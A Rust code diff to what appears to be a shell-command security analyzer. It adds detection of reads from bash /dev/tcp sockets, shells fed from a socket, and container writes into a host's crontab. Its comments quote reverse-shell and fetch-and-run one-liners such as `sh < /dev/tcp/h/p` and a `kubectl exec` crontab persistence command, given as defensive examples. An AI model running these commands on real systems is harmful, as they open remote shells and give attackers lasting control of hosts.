@@ -392,8 +392,16 @@ impl<'c> Analyzer<'c> {
         };
         let (target, shell) = match (rw, out) {
             (Some(t), _) => {
+                // A shell given its code with `-c` runs that code, not what the socket sends:
+                // it carries the command line (`bash -c 'exec 3<>/dev/tcp/h/80; …; cat <&3'`);
+                // a shell it runs that reads the socket is a command of its own here.
+                let carrier = |c: &crate::facts::CommandFact| {
+                    c.argv.iter().skip(1).any(|w| {
+                        w.len() > 1 && w.starts_with('-') && !w.starts_with("--") && w.contains('c')
+                    })
+                };
                 let c = self.facts.commands.iter().find(|c| {
-                    programs::is_shell(&c.program)
+                    (programs::is_shell(&c.program) && !carrier(c))
                         || c.argv.first().is_some_and(|w| w.starts_with('$'))
                 });
                 (t, c)
@@ -950,6 +958,13 @@ impl<'c> Analyzer<'c> {
                                 self.tcp_rw = Some(format!("{host}:{}", p.next().unwrap_or("")));
                             }
                             self.net_redirect(&res.path, matches!(kind, K::Read), prog, evidence);
+                            // Standard input from the socket: the program reads what the peer
+                            // sends (a shell runs it as commands: `sh 0</dev/tcp/h/p`).
+                            if matches!(kind, K::Read | K::ReadAndWrite | K::DuplicateInput)
+                                && fd.is_none_or(|f| f == 0)
+                            {
+                                out.stdin = self.file_stream(&res.path);
+                            }
                             continue;
                         }
                         let to_stdout = fd.is_none_or(|f| f == 1);
@@ -1078,6 +1093,20 @@ impl<'c> Analyzer<'c> {
         let mut s = self.files.get(path).cloned().unwrap_or_default();
         s.file = Some(path.to_string());
         s.piped = false;
+        // bash's `/dev/tcp/HOST/PORT` and `/dev/udp/…` pseudo-files are sockets: what is read
+        // from one comes from the peer (bash(1) "REDIRECTION"), so a shell or an interpreter
+        // reading it runs fetched code (`sh < /dev/tcp/h/p`, `cat /dev/tcp/h/p | sh`).
+        if let Some(target) = path
+            .strip_prefix("/dev/tcp/")
+            .map(|t| ("tcp", t))
+            .or_else(|| path.strip_prefix("/dev/udp/").map(|t| ("udp", t)))
+        {
+            let (proto, rest) = target;
+            let mut p = rest.split('/');
+            let host = p.next().unwrap_or("");
+            let port = p.next().unwrap_or("");
+            s.taint.fetched = Some(format!("{proto}://{host}:{port}"));
+        }
         s
     }
 
@@ -1346,8 +1375,19 @@ impl<'c> Analyzer<'c> {
             scope,
             evidence: clip(evidence),
         };
-        if self.remote.is_some() {
+        if let Some(via) = self.remote.clone() {
             self.facts.remote_paths.push(fact);
+            // Writes on the other side are that system's business, except into another root
+            // mounted there (`kubectl exec pod -- sh -c 'echo … >> /host/etc/crontab'`): from a
+            // container that is the node's or host's file system (a `hostPath` mount), and its
+            // start-up files outlive the container.
+            if matches!(access, Access::Write | Access::Create) {
+                if let Some((kind, _)) = paths::other_root(&r.path)
+                    .and_then(|inner| crate::persist::classify(inner, self.ctx))
+                {
+                    self.persistence(kind, &format!("{via}: {}", r.path), evidence);
+                }
+            }
             return;
         }
         self.facts.paths.push(fact);
